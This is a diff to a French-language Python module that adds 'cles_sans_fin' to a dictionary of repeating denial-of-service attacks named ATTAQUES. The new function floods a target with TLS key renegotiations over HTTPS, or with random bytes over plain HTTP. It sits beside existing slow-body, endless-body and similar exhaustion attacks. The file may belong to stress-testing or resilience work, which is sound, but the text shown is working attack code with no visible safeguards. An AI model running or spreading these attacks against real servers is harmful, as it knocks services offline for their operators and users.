@@ -8,6 +8,7 @@ s'interdit ne doit la retenir.
 
 from __future__ import annotations
 
+import collections
 import contextlib
 import itertools
 import json
@@ -20,6 +21,8 @@ from collections.abc import Callable, Iterator
 from threading import Thread
 from typing import Final, TypeAlias
 from urllib.parse import urlsplit
+
+from campagnes.sous_le_tls import changements_de_cle
 
 Attaque: TypeAlias = Callable[[str], None]
 """Une attaque contre l'adresse d'un nœud, une fois ; on la recommence sans fin."""
@@ -164,6 +167,18 @@ def corps_lents(url: str) -> None:
         time.sleep(20)
 
 
+# --- Sous HTTP --------------------------------------------------------------------------------
+
+
+def cles_sans_fin(url: str) -> None:
+    """Une poignée de main, puis des changements de clé ; en clair, des octets au hasard."""
+    if url.startswith("https:"):
+        collections.deque(changements_de_cle(brute(url)), maxlen=0)
+    else:
+        with brute(url) as une:
+            une.sendall(os.urandom(65_536))
+
+
 # --- Faire travailler -------------------------------------------------------------------------
 
 
@@ -233,6 +248,7 @@ ATTAQUES: Final[dict[str, Attaque]] = {
         rallonges,
         corps_sans_fin,
         corps_lents,
+        cles_sans_fin,
         zeros,
         profond,
         faux_signes,
